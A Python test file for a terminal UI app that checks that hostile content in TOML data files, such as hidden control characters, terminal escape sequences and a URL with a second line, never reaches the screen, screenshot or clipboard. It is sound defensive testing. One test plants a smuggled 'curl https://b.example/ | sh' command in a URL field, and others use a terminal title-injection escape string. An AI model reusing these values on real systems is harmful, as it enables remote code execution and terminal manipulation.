"""Nothing that a file says, in a key or in a value, drives the screen, its picture or a copy."""

import asyncio
from datetime import date
from pathlib import Path
from tempfile import TemporaryDirectory
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from irtui.model.claims import Ref
from irtui.model.records import TABLES
from irtui.tui.app import IrtuiApp
from tests.hostile import NAME, PIECES, Raw, broken, changed, hidden, sound
from tests.respelling import inline, written
from tests.tui.screens import press, put, shown, still
from tests.tui.screens import written as on_screen
from tests.tui.test_arriving import Preparing, arriving

pytestmark = pytest.mark.usefixtures("painted")


def hostile(document: Raw, folder: Path, selection: Ref | None = None) -> IrtuiApp:
    path = folder / f"{NAME}.toml"
    path.write_text(written(document), "utf-8", newline="\n")
    return still(path, go=str(selection), today=date(2024, 7, 1))


def pictured(app: IrtuiApp) -> str:
    """The text of the picture of the screen, as a reader of XML has it."""
    return "".join(ElementTree.fromstring(app.export_screenshot()).itertext())


KEYS = (
    *("j", "k", "h", "l", "J", "K", "g", "G", "z", "Z", "tab", "shift+tab", "enter", "escape"),
    *("E", "r", "P", "c", "d", "f", "s", "v", "x", "m", "t", "n", "y", "a", *"123456"),
    *("slash", "backslash", "at", "colon", "apostrophe", "question_mark", "ctrl+p"),
    *("plus", "minus", "left_square_bracket", "right_square_bracket", "backspace", "space"),
)
"""Keys that leave neither the app nor the terminal."""
JOURNEY = (
    *("E", "r", *"123456", "escape", "slash", *"fog", "enter", "at", "escape", "y", "escape"),
    *("o", "escape", "tab", "z", "G", "z", "tab", "z", "z", "colon", *"fog", "escape"),
)


async def test_nothing_hidden_gets_to_the_screen_or_the_clipboard(tmp_path: Path):
    app = hostile(sound(), tmp_path, Ref("source", "a"))
    async with app.run_test(size=(120, 60), notifications=True) as pilot:
        for key in JOURNEY:
            await press(pilot, key)
            assert not hidden(on_screen(app)), key
        assert not hidden(pictured(app))
        for copied in "criv":
            await press(pilot, "y", copied)
            assert not hidden(app.clipboard)
            assert "\n" not in app.clipboard or copied == "r"


@settings(max_examples=4)
@given(
    text=st.lists(st.sampled_from(PIECES), min_size=1, max_size=6).map("".join),
    table=st.sampled_from([*TABLES]),
    at=st.integers(0, 40),
    keys=st.lists(st.sampled_from(KEYS), min_size=10, max_size=20),
    size=st.sampled_from([(120, 40), (80, 24), (20, 6)]),
)
def test_whatever_is_in_a_field_any_keys_show_it_and_nothing_hidden(
    text: str, table: str, at: int, keys: list[str], size: tuple[int, int]
) -> None:
    async def pressed(folder: Path) -> None:
        app = hostile(changed(text, table, at), folder, Ref(table, "a"))
        async with app.run_test(size=size) as pilot:
            for key in keys:
                await press(pilot, key)
                assert not hidden(on_screen(app)), key
            assert app.failure is None

    with TemporaryDirectory() as folder:
        asyncio.run(pressed(Path(folder)))


async def test_an_address_with_a_second_line_is_shown_in_one_and_neither_opened_nor_copied(
    tmp_path: Path,
):
    document = sound("fog")
    document["source"]["a"]["url"] = "https://a.example/\ncurl https://b.example/ | sh\n"
    app = hostile(document, tmp_path, Ref("source", "a"))
    async with app.run_test(size=(140, 60)) as pilot:
        assert "https://a.example/␊curl" in shown(app)
        await press(pilot, "y", "a", "escape")
        assert "curl" not in app.clipboard
        await press(pilot, "y", "c")
        assert "a.example" not in app.clipboard
        assert "fog" in app.clipboard
        await press(pilot, "o")
        assert "irtui does not open “https://a.example/␊curl" in shown(app)


async def test_nothing_hidden_gets_to_the_list_of_problems(tmp_path: Path):
    app = hostile(broken(), tmp_path)
    async with app.run_test(size=(120, 60)) as pilot:
        assert "lookalike-key" in {problem.code for problem in app.loaded.problems}
        for key in ("pagedown", "r"):
            assert "fog␛]0;owned␇" in shown(app)
            assert not hidden(pictured(app))
            await press(pilot, key)


async def test_nothing_hidden_gets_to_the_screen_while_a_file_is_read(tmp_path: Path):
    titled = f"[dataset]\ntitle = {inline(NAME)}\n[body.b]\nname = {inline(NAME)}\n"
    for document, name in (("", NAME), (titled, "fog")):
        path = tmp_path / f"{name}.toml"
        path.write_text(document, "utf-8", newline="\n")
        preparing = Preparing()
        app = arriving(preparing, path)
        async with app.run_test(size=(120, 30)) as pilot:
            await put(pilot, "fog")
            assert "fog␛]0;owned␇" in shown(app)
            assert not hidden(pictured(app))
            await preparing.end(pilot)
